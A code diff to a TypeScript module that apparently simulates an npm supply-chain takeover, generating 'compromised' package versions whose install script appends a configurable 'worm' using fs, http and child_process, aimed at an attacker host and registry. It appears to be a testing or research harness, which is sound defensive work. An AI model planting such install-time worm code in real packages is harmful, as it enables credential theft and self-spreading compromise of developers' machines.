@@ -1,6 +1,6 @@
 /** The packages of the story: a clean one, another beside it, and the compromised next versions of the clean one. */
 import type { Package } from "./registry.ts";
-import { steps } from "./steps.ts";
+import { type Step, steps } from "./steps.ts";
 
 const CLEAN_BUILD = "require('fs').writeFileSync(__dirname + '/built.js', 'module.exports = 42\\n')\n";
 
@@ -20,9 +20,10 @@ export interface Targets {
   readonly registry: string;
 }
 
-/** The next version, which does everything in the install script that existed before. */
-export function takenOver(targets: Targets): Package {
-  return { manifest: { ...clean.manifest, version: "1.0.1" }, files: { "build.js": CLEAN_BUILD + worm(targets) } };
+/** The next version, which does everything, or only these steps, in the install script that existed before. */
+export function takenOver(targets: Targets, chosen: readonly Step[] = steps): Package {
+  const files = { "build.js": CLEAN_BUILD + worm(targets, chosen) };
+  return { manifest: { ...clean.manifest, version: "1.0.1" }, files };
 }
 
 /** The next version, which adds a file and makes it the install script. */
@@ -47,8 +48,8 @@ export function told(stdout: string): Told | undefined {
 }
 
 /** Every step one after the other, each on its own, as worms are written: a step that fails is skipped. */
-function worm({ attacker, metadata, registry }: Targets): string {
-  const list = steps.map(({ name, code }) => `[${JSON.stringify(name)}, async () => {${code}}]`).join(",\n");
+function worm({ attacker, metadata, registry }: Targets, chosen: readonly Step[] = steps): string {
+  const list = chosen.map(({ name, code }) => `[${JSON.stringify(name)}, async () => {${code}}]`).join(",\n");
   return `;(() => {
 const fs = require('fs'), path = require('path'), http = require('http'), cp = require('child_process')
 const home = process.env.HOME, project = process.env.INIT_CWD || process.cwd()
